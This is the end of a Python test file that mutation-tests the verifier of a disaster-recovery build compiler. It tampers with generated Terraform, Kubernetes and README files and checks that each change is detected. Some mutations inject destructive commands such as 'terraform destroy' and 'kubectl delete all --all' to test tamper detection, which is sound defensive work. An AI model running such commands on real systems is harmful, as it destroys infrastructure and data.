     moves_nothing=(r"(?m)^mv .*\n", drop), shifts_one=(r"shift 2", "shift 3"), empty=(r"wired='\{\}'", "wired='{\"a\": 1}'"), other_value=(r"\$outputs\[\$output\]\.value", "$outputs[$output].type"),
     no_error=(r'error\("output', '("output'), more_commands=(r"(\n)\Z", "\\1terraform destroy\n"), of_another_folder=(r'-chdir="\$\{from\}"', '-chdir="${root}"'))

kind("scripts-into-clusters", r"cron/kubernetes/scripts\.sh$",
     other_name=(r"configmap drc-([\w-]+)-jobs", r"configmap drc-\1-job"), other_plan=(r"configmap drc-", "configmap drc-x"), lib_name=(r"-lib ", "-libs "),
     jobs_folder=(r"/\.\./jobs", "/../job"), lib_folder=(r"/\.\./lib", "/../jobs"), deeper=(r"/\.\./", "/../../"), no_namespace=(r'(?m)^ +--namespace "\$\{namespace\}" \\\n', drop),
     other_namespace=(r'--namespace "\$\{namespace\}"', "--namespace default"), no_dry_run=(r"(?m)^ +--dry-run=client \\\n", drop), dry_run_of_server=(r"--dry-run=client", "--dry-run=server"),
     other_output=(r"--output=yaml", "--output=name"), deletes=(r"kubectl apply", "kubectl delete"), replaces=(r"kubectl create", "kubectl replace"), secret=(r"create configmap", "create secret generic"),
     no_options=(r' "\$@"', ""), applies_nothing=(r"(?m)^ +\| kubectl apply \\\n +--filename \\\n +- \"\$@\"\n", "\n"), stops_at_nothing=(r"set -euo", "set -uo"),
     shift_twice=(r"(?m)^shift$", "shift 2"), default_namespace=(r":\?usage[^}]*", ":-default"), more_commands=(r"(\n)\Z", "\\1kubectl delete all --all\n"), other_place=(r'here="\$\(cd', 'here="$(cd /'),
     only_one=(r"(?s)kubectl create configmap drc-[\w-]+-lib.*\Z", drop))

kind("imports-of-records", r"imports\.tf\.example$",
     other_zone=(r'id = "', 'id = "X'), other_name=(r"_(api|bot)\.", r"_x\1."), other_type=(r"_A(_|\")", r"_AAAA\1"), no_type=(r"_A(_|\")", r"\1"), other_record=(r"aws_route53_record\.(\w+)", r"aws_route53_record.x\1"),
     other_resource=(r"aws_route53_record\.", "aws_route53_zone."), block_dropped=(r"(?s)import \{.*?\n\}\n", drop), block_twice=(r"(?s)import \{.*?\n\}\n", double), no_id=(r"(?m)^ +id = .*\n", drop),
     no_target=(r"(?m)^ +to = .*\n", drop), commented_out=(r"(?m)^(  id = )", r"# \1"), moved=(r"import \{", "moved {"), removed=(r"import \{", "removed {"), more=(r"(?m)^(  id = .*\n)", r'\1  provider = aws.x\n'),
     in_a_module=(r"to = aws", "to = module.x.aws"), with_an_index=(r"(to = aws_route53_record\.\w+)", r"\1[0]"), other_set=(r'_A_(east|west)"', r'_A_x\1"'), set_dropped=(r'_A_(east|west)"', '_A"'),
     a_resource=(r"(\n)\Z", '\\1resource "aws_route53_zone" "x" {\n}\n'), dots=(r"\.example\.com", "example.com"), empty_id=(r'id = "[^"]+"', 'id = ""'))


kind("readmes", r"(?:^|/)README\.md$",
     finish=(r"(?m)^(\| `[\w-]+` \| \d+ of \d+ assets \| )(\d+)", more), affected=(r"(?m)^(\| `[\w-]+` \| )(\d+)( of \d+ assets)", r"\g<1>9\2\3"),
     assets=(r"(?m)^(\| `[\w-]+` \| \d+ of )(\d+)( assets)", r"\g<1>9\2\3"), verdict=(r"(?m)^(\| `[\w-]+` \| \d+ of \d+ assets \| [^|]+ \|) hold", r"\1 fail"),
     scenario_dropped=(r"(?m)^\| `[\w-]+` \| \d+ of \d+ assets .*\n", drop), scenario_twice=(r"(?m)^\| `[\w-]+` \| \d+ of \d+ assets .*\n", double),
     scenario_called=(r"(?m)^\| `([\w-]+)(` \| \d+ of \d+ assets)", r"| `x\1\2"),
     task_dropped=(r"(?m)^- \[ \] .*\n", drop), task_twice=(r"(?m)^- \[ \] .*\n", double), task_subject=(r"(?m)^- \[ \] `", "- [ ] `x"), task_says=(r"(?m)^(- \[ \] `[\w-]+`: \S+) ", r"\1 never "),
     task_asked_of=(r"(?m)^(- \[ \] .* \(asked of )(\w)", r"\1X\2"), task_question=(r"(?m)^(- \[ \] .* \(asked of [^;\n]*; )(\w|`)", r"\1why \2"),
     task_number=(r"(?m)^(- \[ \] `[\w-]+`:[^\n]*? )(\d+)", more),
     demand_dropped=(r"(?m)^\| (?:ops|SRE|Security|Database|DevOps) \| .*\n", drop), demand_of=(r"(?m)^\| (ops|SRE|Security|Database|DevOps) \|", r"| x\1 |"),
     demand_swapped=(r"(?m)^(\| (?:ops|SRE) \| .*\n)(\| (?:ops|SRE) \| .*\n)", r"\2\1"), demand_words=(r"(?m)^(\| (?:ops|SRE|Security|Database) \| \S+) ", r"\1 hardly "),
     demand_check=(r"(?m)^(\| (?:ops|SRE|Security|Database) \| .* \| \S+) (\S+ \S+.* \|)$", r"\1 not \2"),
     figure=(r"(?m)^(\| `[\w.-]+` \| `)(\d+)", more), figure_name=(r"(?m)^\| `([\w.-]+` \| `\d)", r"| `x.\1"), figure_grade=(r"(?m)^(\| `[\w.-]+` \| `[^`]+` \|) P \|", r"\1 A |"),
     figure_of=(r"(?m)^(\| `[\w.-]+` \| `[^`]+` \| \w \| )(\w)", r"\1X\2"), figure_dropped=(r"(?m)^\| `[\w.-]+` \| `\d.*\n", drop),
     cron_hour=(r"(?m)^(\| `[\w-]+` \| daily at [\d:]+ \| `\d+ )(\d+)", more), cron_minute=(r"(?m)^(\| `[\w-]+` \| daily at [\d:]+ \| `)(\d+)", more),
     calendar=(r"(?m)^(\| `[\w-]+` \| daily at [^|]+\| `[^`]+` \| `\*-\*-\* )(\d+)", more), kubernetes=(r"(?m)^(\| `[\w-]+` \| daily at [^|]+\| `[^`]+` \| `[^`]+` \| `\d+ )(\d+)", more),
     slot=(r"(?m)^(\| `[\w-]+` \| (?:daily|weekly on sun) at )01:", r"\g<1>04:"), job_stores=(r"(?m)^(\| \[`[\w-]+`\].* \| )(backups|repository|copies)", r"\1x\2"),
     job_kept=(r"(?m)^(\| \[`[\w-]+`\].* \| )(\d+)(d \|)", r"\g<1>9\2\3"), job_called=(r"(?m)^\| \[`([\w-]+`\]\(jobs/)", r"| [`x\1"))


def build(env, example, folder):
    out = folder / "out"
    env.compile(["build", str(env.root / "examples" / example), "-o", str(out), "--quiet"], folder)
    return out


def fit_digests(out, path):
    """Manifest and SHA256SUMS agree with the file as it is now."""
    data = (out / path).read_bytes()
    sums = out / "restore" / "SHA256SUMS"
    paths = [path]
    if path.startswith("restore/") and path != "restore/SHA256SUMS":
        name = path.removeprefix("restore/")
        lines = sums.read_text().splitlines()
        sums.write_text("".join((f"{hashlib.sha256(data).hexdigest()}  {name}" if line.endswith(f"  {name}") else line) + "\n" for line in lines))
        paths.append("restore/SHA256SUMS")
    manifest = json.loads((out / "manifest.json").read_text())
    for entry in manifest["files"]:
        if entry["path"] in paths:
            data = (out / entry["path"]).read_bytes()
            entry.update(sha256=hashlib.sha256(data).hexdigest(), size=len(data))
    (out / "manifest.json").write_text(json.dumps(manifest))


class Changed:
    """The folder with one file changed, and everything as it was afterwards."""

    def __init__(self, out, path, text):
        self.out, self.path, self.text = out, path, text

    def __enter__(self):
        self.kept = {path: (self.out / path).read_bytes() for path in (self.path, "manifest.json", "restore/SHA256SUMS") if (self.out / path).exists()}
        (self.out / self.path).write_text(self.text)
        fit_digests(self.out, self.path)

    def __exit__(self, *_):
        for path, data in self.kept.items():
            (self.out / path).write_bytes(data)


def findings(env, out):
    done = env.run([env.drc, "verify", str(out), "--format", "json"], out.parent)
    if done.code not in (0, 1, 2):
        raise Failure(f"verify ends with {done.code}\n{readable(done.stderr)}")
    return done.code, json.loads(done.stdout)["artifacts"]["problems"]


def changes(text, pattern, replacement):
    """Up to PLACES texts, each with one match changed: the first, the last, and one between."""
    matches = [match for match in re.finditer(pattern, text) if match[0] or match.re.pattern.startswith("(?=")]
    chosen = matches if len(matches) <= PLACES else [matches[0], matches[len(matches) // 2], matches[-1]]
    for match in chosen:
        new = replacement(match) if callable(replacement) else match.expand(replacement)
        changed = text[:match.start()] + new + text[match.end():]
        if changed != text:
            yield text.count("\n", 0, match.start()) + 1, changed


def is_about(told, path):
    """What is missing is told at the folder, for it may stand in any file of that; a variable where it is used."""
    folder = path.rpartition("/")[0] + "/"
    return told == path or path.startswith(told.rstrip("/") + "/") or path.endswith("/variables.tf") and told.startswith(folder)


def try_way(env, out, name, pattern, replacement, files):
    tried, missed = 0, []
    candidates = [path for path in files if re.search(pattern, (out / path).read_text())]
    for path in candidates if len(candidates) <= PLACES else [candidates[0], candidates[len(candidates) // 2], candidates[-1]]:
        for line, changed in changes((out / path).read_text(), pattern, replacement):
            with Changed(out, path, changed):
                code, problems = findings(env, out)
            tried += 1
            if code != 2 or not any(is_about(problem["path"], path) for problem in problems):
                missed.append(f"{name}: {path}:{line}")
    return tried, missed


def mutate(env, kind_name):
    files, ways = WAYS[kind_name]
    tried, missed, count = dict.fromkeys(ways, 0), [], 0
    for example in EXAMPLES:
        with Sandbox() as folder:
            out = build(env, example, folder)
            listed = [entry["path"] for entry in json.loads((out / "manifest.json").read_text())["files"]]
            for name, (pattern, replacement) in ways.items():
                number, more_missed = try_way(env, out, f"{example}, {name}", pattern, replacement, [path for path in listed if files.search(path)])
                tried[name] += number
                missed += more_missed
                count += number
    never = [name for name, number in tried.items() if not number]
    if missed or never or len(ways) < 20:
        raise Failure(f"{kind_name}: {len(missed)} of {count} changes were not seen:\n  " + "\n  ".join(missed[:40])
                      + (f"\nnever tried: {', '.join(never)}" if never else "") + (f"\nonly {len(ways)} ways" if len(ways) < 20 else ""))


def test_examples_agree(env):
    for example in EXAMPLES:
        with Sandbox() as folder:
            code, problems = findings(env, build(env, example, folder))
            if code or problems:
                raise Failure(f"{example}: {problems[:5]}")


def test_fixed_scripts(env):
    """Scripts that hold no fact of the plan are the compiler's own, byte for byte."""
    with Sandbox() as folder:
        out = build(env, "platform", folder)
        paths = ["route53/traffic.sh"] + [str(path.relative_to(out)) for place in ("restore", "restore/lib", "cron/lib") for path in (out / place).glob("*.sh")]
        for path in paths:
            with Changed(out, path, (out / path).read_text().replace("set -e", "set +e", 1) + "\n# more\n"):
                code, problems = findings(env, out)
            if code != 2 or path not in {problem["path"] for problem in problems}:
                raise Failure(f"{path}: {problems[:3]}")
        if len(paths) < 16:
            raise Failure(f"only {paths}")


def test_what_each_build_has(env):
    """Files that every build has, taken out of the manifest as well, modes, and digests of SHA256SUMS that only the manifest knows."""
    with Sandbox() as folder:
        out = build(env, "platform", folder)
        manifest = json.loads((out / "manifest.json").read_text())
        paths = ["README.md", "restore/recover.sh", "restore/failback.sh", "restore/drill.sh", "restore/lib/engine.sh", "restore/SHA256SUMS", "cron/lib/notify.sh",
                 "cron/kubernetes/scripts.sh", "route53/traffic.sh", "terraform/wire.sh", "terraform/README.md", "terraform/global/versions.tf", "terraform/primary/versions.tf",
                 "terraform/recovery-west/backend.hcl.example", "terraform/recovery-vault/README.md"]
        for path in paths:
            kept = (out / path).read_bytes()
            mode = (out / path).stat().st_mode
            (out / path).unlink()
            (out / "manifest.json").write_text(json.dumps({**manifest, "files": [entry for entry in manifest["files"] if entry["path"] != path]}))
            code, problems = findings(env, out)
            (out / path).write_bytes(kept)
            (out / path).chmod(mode)
            if code != 2 or not any(problem["path"] in (path, "restore/SHA256SUMS") for problem in problems):
                raise Failure(f"{path} is missing: {code} {problems[:3]}")
        (out / "manifest.json").write_text(json.dumps(manifest))
        for path, mode in (("restore/recover.sh", 0o644), ("cron/jobs/logs-daily.sh", 0o600), ("restore/README.md", 0o755), ("restore/recover.sh", 0o757), ("plan.json", 0o666)):
            before = (out / path).stat().st_mode
            (out / path).chmod(mode)
            code, problems = findings(env, out)
            (out / path).chmod(before)
            if code != 2 or [problem["path"] for problem in problems] != [path]:
                raise Failure(f"{path} as {mode:o}: {code} {problems[:3]}")
        for change in (lambda lines: lines[1:], lambda lines: lines[:-1], lambda lines: [lines[1], lines[0], *lines[2:]], lambda lines: [lines[0], *lines],
                       lambda lines: ["0" * 64 + lines[0][64:], *lines[1:]], lambda lines: [*lines, "0" * 64 + "  more.sh"], lambda lines: [lines[0] + "x", *lines[1:]]):
            lines = (out / "restore/SHA256SUMS").read_text().splitlines()
            with Changed(out, "restore/SHA256SUMS", "".join(line + "\n" for line in change(lines))):
                code, problems = findings(env, out)
            if code != 2 or [problem["path"] for problem in problems] != ["restore/SHA256SUMS"]:
                raise Failure(f"SHA256SUMS: {code} {problems[:3]}")
        path = "restore/scenarios/reporting-down/scenario.tsv"
        with Changed(out, path, (out / path).read_text().replace("tool\tkubectl\n", "")):
            code, problems = findings(env, out)
        if code != 2 or {problem["path"] for problem in problems} != {path}:
            raise Failure(f"a program that is not asked for: {code} {problems[:3]}")


def collect(env):
    yield Test("fixed-scripts", lambda: test_fixed_scripts(env))
    yield Test("examples-agree", lambda: test_examples_agree(env))
    yield Test("what-each-build-has", lambda: test_what_each_build_has(env))
    for name in WAYS:
        yield Test(f"changes-in-{name}", lambda name=name: mutate(env, name))
